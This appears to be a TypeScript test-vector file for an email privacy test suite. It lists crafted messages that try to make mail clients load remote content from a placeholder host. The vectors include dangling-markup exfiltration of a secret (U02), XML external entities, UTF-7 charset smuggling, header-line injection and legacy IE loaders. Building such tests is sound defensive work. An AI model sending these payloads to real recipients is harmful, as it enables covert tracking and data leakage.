import { type Entity, html, page, plain, type Vector } from '../vector.ts';

const PICTURE = '<img src="https://HOST/1" alt="">';

/** Text of the multipart of U14, encoded as a whole. */
const ENCODED_WHOLE = btoa(
  ['--b', 'Content-Type: text/html; charset=utf-8', '', '<p>Leak test U14</p><img src="https://u14.leak.test/1" alt="">', '--b--', ''].join('\r\n'),
);

const invitation = [
  'BEGIN:VCALENDAR',
  'VERSION:2.0',
  'METHOD:REQUEST',
  'IMAGE;VALUE=URI;DISPLAY=BADGE:https://HOST/1',
  'BEGIN:VEVENT',
  'UID:u19@leak.test',
  'DTSTAMP:20261102T090000Z',
  'DTSTART:20261201T100000Z',
  'SUMMARY:LABEL',
  'IMAGE;VALUE=URI:https://HOST/2',
  'STYLED-DESCRIPTION;FMTTYPE=text/html:<p>LABEL</p><img src="https://HOST/3">',
  'END:VEVENT',
  'END:VCALENDAR',
  '',
].join('\r\n');

/** U: what old engines make of markup, what a browser loads before it parses, and messages that say two things at once. */
export const OTHER_PROGRAMS: readonly Vector[] = [
  {
    id: 'U01',
    slug: 'imports-that-are-no-rules',
    body: '<style>@import https://HOST/1 ;p{color:red}</style><style>@import https://HOST/2 layer;</style><style>/x@charset "a";@import https://HOST/3</style>',
  },
  {
    id: 'U02',
    slug: 'tag-that-the-document-ends-in',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [{ type: 'text/html', content: '<p>LABEL</p><img alt="" src="https://HOST/1?' }, plain('A secret'), html('">')],
    },
  },
  {
    id: 'U03',
    slug: 'zero-bytes',
    fires: 'client',
    encoding: 'quoted-printable',
    body: '<i\0mg src="https://HOST/1" alt=""><img s\0rc="https://HOST/2" alt=""><p style="back\0ground:url(https://HOST/3)">x</p>',
  },
  { id: 'U04', slug: 'grave-accents', fires: 'legacy', body: '<img src=`https://HOST/1` alt="">' },
  {
    id: 'U05',
    slug: 'what-clients-without-frames-show',
    fires: 'legacy',
    body: '<iframe><img src="https://HOST/1" alt=""></iframe><noembed><img src="https://HOST/2" alt=""></noembed><noframes><img src="https://HOST/3" alt=""></noframes>',
  },
  {
    id: 'U06',
    slug: 'addresses-inside-of-others',
    fires: 'legacy',
    body: [
      'jar:https://HOST/1!/a',
      'mhtml:https://HOST/2!a',
      'ms-its:https://HOST/3::/a',
      'mk:@MSITStore:https://HOST/4::/a',
      'feed:https://HOST/5',
      'URL:https://HOST/6',
      'file:////HOST/7',
    ]
      .map((address) => `<img src="${address}" alt="">`)
      .join(''),
  },
  {
    id: 'U07',
    slug: 'what-outlook-and-ie-know',
    fires: 'legacy',
    head: '<?import namespace="x" implementation="https://HOST/1">',
    body: `<v:shape><v:imagedata src="cid:none" o:href="https://HOST/2" /></v:shape><p style="-ms-filter:'progid:DXImageTransform.Microsoft.AlphaImageLoader(src=https://HOST/3)'">x</p><p style="background:expression('url(https://HOST/4)')">x</p>`,
  },
  {
    id: 'U08',
    slug: 'bases-in-the-way-of-xml',
    fires: 'legacy',
    body: '<svg xml:base="https://HOST/b/"><g xml:base="c/"><image href="1" width="9" height="9"/></g></svg>',
  },
  {
    id: 'U09',
    slug: 'drawings-that-refer-to-drawings',
    fires: 'legacy',
    body: `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='a'><image href='https://HOST/1'/></svg>#a"/></svg><math><mglyph src="https://HOST/2"/></math><p style="background:filter('https://HOST/3',blur(1px))">x</p>`,
  },
  {
    id: 'U10',
    slug: 'external-entities',
    fires: 'legacy',
    body: `<iframe src="data:text/xml,<!DOCTYPE a SYSTEM 'https://HOST/1' [<!ENTITY e SYSTEM 'https://HOST/2'>]><a>%26e;</a>"></iframe>`,
  },
  {
    id: 'U11',
    slug: 'type-said-twice',
    fires: 'client',
    entity: { type: 'text/plain', content: page(PICTURE), fields: [['Content-Type', 'text/html; charset=utf-8']] },
  },
  {
    id: 'U12',
    slug: 'line-in-the-header-that-is-no-field',
    fires: 'client',
    fields: [['X-Note', 'LABEL\r\nThis is no field']],
    body: PICTURE,
  },
  {
    id: 'U13',
    slug: 'charset-said-twice',
    fires: 'client',
    entity: {
      type: 'text/html; charset=us-ascii; charset=utf-7',
      content: '<p>LABEL</p>+ADw-img src=+ACI-https://HOST/1+ACI- alt=+ACIAIgA+-',
    },
  },
  {
    id: 'U14',
    slug: 'multipart-encoded-as-a-whole',
    entity: { type: 'multipart/mixed; boundary="b"', declares: 'base64', content: ENCODED_WHOLE },
  },
  {
    id: 'U15',
    slug: 'parts-after-the-end',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [plain(`LABEL\r\n--=_u15_=--\r\n--=_u15_=\r\nContent-Type: text/html\r\n\r\n${page(PICTURE)}`)],
    },
  },
  {
    id: 'U16',
    slug: 'what-is-elsewhere',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        plain(),
        { type: 'message/external-body; access-type=URL; URL="https://HOST/1"', content: 'Content-Type: image/png\n\n' },
        { type: 'message/external-body; access-type=anon-ftp; site="HOST"; directory="pub"; name="2"', content: 'Content-Type: image/png\n\n' },
        { type: 'application/pdf; name="a.pdf"', content: 'x', fields: [['X-Mozilla-External-Attachment-URL', 'https://HOST/3']] },
        { type: 'application/pdf; name="b.pdf"', content: 'x', fields: [['X-Mozilla-Cloud-Part', 'cloudFile; url="https://HOST/4"']] },
      ],
    },
  },
  {
    id: 'U17',
    slug: 'logos-and-keys-in-the-header',
    fires: 'client',
    fields: [
      ['BIMI-Location', 'v=BIMI1; l=https://HOST/1.svg; a=https://HOST/2.pem'],
      ['OpenPGP', 'id=0123456789ABCDEF; url="https://HOST/3"; preference=sign'],
    ],
    entity: plain(),
  },
  {
    id: 'U18',
    slug: 'base-of-the-parts-around',
    entity: { type: 'multipart/related', fields: [['Content-Base', 'https://HOST/b/']], parts: [html('<img src="1" alt="">')] },
  },
  {
    id: 'U19',
    slug: 'pictures-of-a-calendar-entry',
    fires: 'client',
    entity: { type: 'multipart/alternative', parts: [plain(), { type: 'text/calendar; method=REQUEST', content: invitation }] },
  },
  {
    id: 'U20',
    slug: 'what-others-show-below',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        {
          type: 'multipart/related; start="<root>"',
          parts: [html(PICTURE), { type: 'text/html', content: page('x'), fields: [['Content-ID', '<root>']] }],
        },
        {
          type: 'image/svg+xml',
          content: '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://HOST/2"/></svg>',
          fields: [['Content-Disposition', 'inline; filename="a.svg"']],
        } satisfies Entity,
        {
          type: 'message/rfc822',
          content: 'From: x@HOST\nSubject: LABEL\nContent-Type: text/html\n\n<p>LABEL</p><img src="https://HOST/3" alt="">',
        },
      ],
    },
  },
  {
    id: 'U21',
    slug: 'xhtml-alone',
    entity: {
      type: 'application/xhtml+xml',
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>LABEL</title></head><body><p>LABEL</p><img src="https://HOST/1" alt=""/></body></html>`,
    },
  },
  {
    id: 'U22',
    slug: 'strings-that-functions-give',
    body: '<style>@function --a(){result:"https://HOST/1"}@function --b(){@media screen{result:"https://HOST/2"}}.a{background:image-set(--a() 1x)}.b{background:image-set(--b() 1x)}</style><p class="a">x</p><p class="b">y</p>',
  },
  {
    id: 'U23',
    slug: 'semicolons-in-animated-addresses',
    body: '<svg><image width="9" height="9"><set attributeName="href" to="https://HOST/1;a"/></image><image width="9" height="9"><animate attributeName="href" values="https://HOST/2;https://HOST/3" dur="9s"/></image></svg>',
  },
  {
    id: 'U24',
    slug: 'parts-of-no-type-that-have-a-name',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        plain(),
        { type: 'application/octet-stream; name="a.html"', content: page('<img src="https://HOST/1" alt="">') },
        { type: 'application/octet-stream; name="a.svg"', content: '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://HOST/2"/></svg>' },
        {
          type: 'application/octet-stream; name="a.rtf"',
          content: String.raw`{\rtf1{\field{\*\fldinst LINK Word.Document.12 "https://HOST/3"}}}`,
        },
      ],
    },
  },
  {
    id: 'U25',
    slug: 'cards-in-json-and-xml',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        plain(),
        { type: 'application/vcard+json', content: '["vcard",[["photo",{},"uri","https://HOST/1"],["logo",{},"uri","https://HOST/2"]]]\n' },
        { type: 'application/vcard+xml', content: '<vcards><vcard><photo><uri>https://HOST/3</uri></photo></vcard></vcards>\n' },
        { type: 'application/calendar+json', content: '["vcalendar",[["image",{},"uri","https://HOST/4"]],[]]\n' },
      ],
    },
  },
  {
    id: 'U26',
    slug: 'feeds-and-playlists',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        plain(),
        {
          type: 'application/rss+xml',
          content:
            '<rss><channel><image><url>https://HOST/1</url></image><item><description>&lt;img src="https://HOST/2"&gt;</description></item></channel></rss>\n',
        },
        { type: 'audio/x-mpegurl', content: '#EXTM3U\nhttps://HOST/3\n' },
        { type: 'application/xspf+xml', content: '<playlist><trackList><track><location>https://HOST/4</location></track></trackList></playlist>\n' },
        { type: 'application/smil', content: '<smil><body><par><img src="https://HOST/5"/><audio src="https://HOST/6"/></par></body></smil>\n' },
      ],
    },
  },
  {
    id: 'U27',
    slug: 'markdown',
    fires: 'client',
    entity: {
      type: 'multipart/alternative',
      parts: [plain(), { type: 'text/markdown', content: 'LABEL ![x](https://HOST/1) ![y][z] <img src="https://HOST/2">\n\n[z]: https://HOST/3\n' }],
    },
  },
  {
    id: 'U28',
    slug: 'header-of-http',
    fires: 'client',
    fields: [
      ['Link', '<https://HOST/1>; rel=stylesheet, <https://HOST/2>; rel="preload"; as=image'],
      ['Refresh', '0; url=https://HOST/3'],
      ['X-Sender-Photo', 'https://HOST/4'],
    ],
    body: 'x',
  },
  {
    id: 'U29',
    slug: 'page-that-was-saved',
    fires: 'client',
    entity: {
      type: 'multipart/mixed',
      parts: [
        plain(),
        {
          type: 'application/x-mimearchive; name="page.mht"',
          content:
            'From: <Saved by Blink>\nSubject: LABEL\nContent-Type: multipart/related; type="text/html"; boundary="c"\n\n--c\nContent-Type: text/html\nContent-Location: https://HOST/\n\n<p>LABEL</p><img src="1">\n--c--\n',
        },
      ],
    },
  },
];
